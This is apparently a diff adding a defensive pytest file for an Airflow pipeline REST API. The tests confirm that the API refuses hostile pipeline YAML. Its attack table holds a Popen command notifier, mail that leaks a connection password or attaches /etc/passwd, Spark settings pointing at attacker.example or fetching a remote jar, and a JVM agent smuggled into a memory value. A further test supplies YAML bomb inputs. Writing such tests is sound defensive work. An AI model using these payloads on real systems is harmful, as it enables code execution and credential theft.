@@ -1,0 +1,141 @@
+"""Attacks on a running site by somebody who may make and change pipelines over REST."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+import pytest
+import yaml
+from airflow_site import Site
+
+API = "/changefeed/api/pipelines"
+SMTP = "airflow.providers.smtp.notifications.smtp.SmtpNotifier"
+POPEN = "airflow.providers.standard.hooks.subprocess.Popen"
+
+pytestmark = pytest.mark.timeout(600)
+
+
+@pytest.fixture(scope="module")
+def attacked(airflow_site: Site) -> Iterator[Site]:
+    """A site that allows mail, with a pipeline that its administrator wrote."""
+    before = airflow_site.site_file.read_text()
+    airflow_site.site_file.write_text(f"{before}notifiers: [{SMTP}]\nconnections: [{{source: s, kafka: k}}]\n")
+    theirs = {"spark": {"connect": "sc://127.0.0.1:1", "conf": {"spark.jars": "/opt/theirs.jar"}}}
+    (airflow_site.pipelines / "attacked.yaml").write_text(text_of("attacked", **theirs))
+    yield airflow_site
+    airflow_site.site_file.write_text(before)
+    (airflow_site.pipelines / "attacked.yaml").unlink(missing_ok=True)
+
+
+def text_of(name: str, **settings: Any) -> str:
+    values = {"name": name, "source": {"connection": "mysql_shop"}, "kafka": {"connection": "kafka_shop"}, **settings}
+    return yaml.safe_dump({**values, "schedule": None}, sort_keys=False)
+
+
+def mailing(**arguments: Any) -> dict[str, Any]:
+    return {"alerts": {"notify": [{"notifier": SMTP, "arguments": {"to": "ops@example.com", **arguments}}]}}
+
+
+ATTACKS = {
+    "a program": {"alerts": {"notify": [{"notifier": POPEN, "arguments": {"args": ["touch", "/tmp/attacked"]}}]}},
+    "a password in a mail": mailing(html_content="{{ conn.mysql_shop.password }}"),
+    "a file in a mail": mailing(files=["/etc/passwd"]),
+    "a file as a template": mailing(template="/etc/passwd"),
+    "a job sent elsewhere": {"spark": {"connect": "sc://attacker.example:15002"}},
+    "a cluster elsewhere": {"spark": {"connection": "mysql_shop"}},
+    "a library": {"spark": {"conf": {"spark.jars": "http://attacker.example/x.jar"}}},
+    "an agent": {"spark": {"conf": {"spark.executor.memory": "1g -agentpath:/tmp/x.so"}}},
+    "another cluster": {"kafka": {"connection": "kafka_of_the_attacker"}},
+    "another state": {"checkpoint": {"store": "table", "connection": "airflow_db"}},
+    "a long topic": {"topics": {"template": "{table:>600000000}"}},
+    "a delay that no date holds": {"retry_delay_seconds": 10**14},
+    "a tag that no DAG takes": {"tags": ["x" * 101]},
+    "a number that no JSON holds": {"alerts": {"headroom_hours": float("inf")}},
+    "another's server_ids": {"source": {"connection": "mysql_shop", "server_ids": "64931-65000"}},
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_names_code_files_hosts_or_connections_is_refused_when_made_and_when_changed(
+    attacked: Site, attack: str
+) -> None:
+    files = {path.name for path in attacked.pipelines.glob("*.yaml")}
+    with attacked.client("ulf") as user:
+        seen = user.get(f"{API}/attacked")
+        made = user.post(API, json={"yaml": text_of("new", **ATTACKS[attack])})
+        kept = yaml.safe_load(seen.json()["yaml"])["spark"]
+        changed = user.put(
+            f"{API}/attacked",
+            json={"yaml": text_of("attacked", **{"spark": kept, **ATTACKS[attack]})},
+            headers={"If-Match": seen.headers["ETag"]},
+        )
+        assert (made.status_code, changed.status_code) == (422, 422), made.text + changed.text
+        assert user.get(f"{API}/attacked").headers["ETag"] == seen.headers["ETag"]
+    assert {path.name for path in attacked.pipelines.glob("*.yaml")} == files
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "- " * 90_000,
+        "name: x\ntags: " + "{a: " * 20_000,
+        "&a {name: *a}",
+        "a: &a [x,x,x,x,x,x,x,x,x]\n"
+        + "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)),
+        text_of("new") + "".join(f"k{number}: 1\n" for number in range(15_000)),
+        text_of("new") + "retries: 0x" + "F" * 100_000,
+        text_of("new") + 'owner: "\\0"',
+        "\N{BYTE ORDER MARK}",
+    ],
+    ids=lambda text: text[:12],
+)
+def test_a_hostile_text_is_refused_and_the_server_lives(attacked: Site, text: str) -> None:
+    with attacked.client("ulf") as user:
+        began = time.monotonic()
+        answer = user.post(API, json={"yaml": text})
+        assert answer.status_code == 422, answer.text[:300]
+        assert len(answer.text) < 20_000
+        assert user.get("/api/v2/monitor/health").status_code == 200
+    print(f"{len(text):,} characters: {time.monotonic() - began:.2f} s")
+
+
+def test_what_the_administrator_wrote_is_kept_and_the_rest_may_change(attacked: Site) -> None:
+    with attacked.client("ulf") as user:
+        seen = user.get(f"{API}/attacked")
+        text = seen.json()["yaml"] + "owner: ulf\n"
+        kept = user.put(f"{API}/attacked", json={"yaml": text}, headers={"If-Match": seen.headers["ETag"]})
+        assert kept.status_code == 200, kept.text
+        less = user.put(
+            f"{API}/attacked", json={"yaml": text_of("attacked")}, headers={"If-Match": kept.headers["ETag"]}
+        )
+        assert less.status_code == 422, "nor is it taken away"
+        assert "spark.connect, spark.jars of `spark`" in less.json()["detail"]
+
+
+def test_what_is_safe_or_listed_may_be_made_once(attacked: Site) -> None:
+    settings = mailing(subject="{{ changefeed.kind }}") | {"spark": {"conf": {"spark.executor.memory": "2g"}}}
+    pair = {"source": {"connection": "s"}, "kafka": {"connection": "k"}}
+    texts = [text_of("made", **settings, **pair), *[text_of("made", **settings)] * 5]
+    file = attacked.pipelines / "made.yaml"
+    try:
+        with attacked.client("ulf") as user, ThreadPoolExecutor(6) as threads:
+            answers = list(threads.map(lambda text: user.post(API, json={"yaml": text}), texts))
+        assert sorted(answer.status_code for answer in answers) == [201, *[409] * 5]
+        assert file.stat().st_mode & 0o007 == 0
+    finally:
+        file.unlink(missing_ok=True)
+
+
+def test_a_refused_file_keeps_its_name_and_stays_as_it_is(attacked: Site) -> None:
+    broken = attacked.pipelines / "elsewhere.yaml"
+    broken.write_text(text_of("hers") + "owner: [\n")
+    try:
+        with attacked.client("ulf") as user:
+            taken = user.post(API, json={"yaml": text_of("hers")})
+            assert (taken.status_code, "elsewhere.yaml" in taken.text) == (409, True), taken.text
+        assert broken.read_text().endswith("owner: [\n")
+    finally:
+        broken.unlink()
